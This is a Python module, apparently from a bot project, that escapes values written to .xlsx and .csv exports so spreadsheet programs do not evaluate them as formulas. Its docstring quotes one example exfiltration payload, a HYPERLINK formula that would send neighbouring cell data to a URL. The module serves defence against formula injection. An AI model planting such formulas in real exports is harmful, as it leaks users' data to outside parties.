"""The one way a value goes into an exported spreadsheet (.xlsx or .csv): text stays text.

A spreadsheet program takes a cell that begins with "=" for a formula, and in a CSV file also one
that begins with "+", "-", "@", a tab or a carriage return: a transfer authority written as
`=HYPERLINK("http://…?leak="&A1,"…")` would become a live link that sends the neighbouring cells away.
Every export writes through here:

- .xlsx: strings are typed string cells, never formulas nor error codes, and those that look like
  a formula carry the quote prefix (Excel's "'" marker), so that editing the cell keeps it text;
  characters XML cannot hold are dropped (openpyxl raises IllegalCharacterError on them).
- .csv: a string that a spreadsheet would evaluate is preceded by an apostrophe (OWASP's advice),
  shown by the program and harmless.

Numbers, dates and None are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from bot.text import printable

FORMULA_XLSX = ("=",)
FORMULA_CSV = ("=", "+", "-", "@", "\t", "\r")


def set_cell(sheet: Any, row: int, column: int, value: Any) -> Any:
    """Write one value into an openpyxl worksheet cell (1-based); return the cell."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        text = printable(value)
        cell.value = text
        cell.data_type = "s"  # openpyxl would make "=..." a formula and "#N/A" an error
        if text.startswith(FORMULA_XLSX):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def write_row(sheet: Any, row: int, values: Sequence[Any]) -> None:
    """Write a row of values into row `row` (1-based), from the first column."""
    for column, value in enumerate(values, 1):
        set_cell(sheet, row, column, value)


def csv_text(value: Any) -> str:
    """A value as one CSV field: a string a spreadsheet would evaluate gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str):
        text = printable(value)
        return "'" + text if text.startswith(FORMULA_CSV) else text
    return str(value)


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """The rows as CSV in UTF-8 with a byte-order mark (which spreadsheet programs expect)."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
    return out.getvalue().encode("utf-8-sig")
